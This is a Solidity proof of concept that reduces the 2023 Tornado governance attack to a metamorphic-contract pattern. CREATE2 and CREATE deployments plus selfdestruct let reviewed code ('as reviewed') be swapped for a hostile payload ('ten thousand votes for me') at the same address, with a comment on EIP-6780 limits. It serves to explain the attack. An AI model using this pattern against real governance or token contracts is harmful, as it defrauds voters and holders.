// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @title Tornado's proposal, 20 May 2023, reduced: who made the contract at an address can
/// make another there once both destroyed themselves. Since Cancun (EIP-6780) only what was
/// made in the same transaction is gone.
contract Maker {
    event Made(address payload);

    function make(bytes calldata code) public returns (address at) {
        Hatch hatch = new Hatch{salt: 0}();
        at = hatch.lay(code);
        hatch.end();
        emit Made(at);
    }

    /// @dev Made and gone in one transaction: nothing stands there afterwards.
    function flash(bytes calldata code) external {
        Payload(make(code)).end();
    }
}

contract Hatch {
    function lay(bytes memory code) external returns (address at) {
        assembly {
            at := create(0, add(code, 32), mload(code))
        }
        require(at != address(0), "not made");
    }

    function end() external {
        selfdestruct(payable(address(0)));
    }
}

contract Payload {
    event Ran(string what);

    function run() external virtual {
        emit Ran("as reviewed");
    }

    function end() external {
        selfdestruct(payable(address(0)));
    }
}

contract OtherPayload is Payload {
    function run() external override {
        emit Ran("ten thousand votes for me");
    }
}
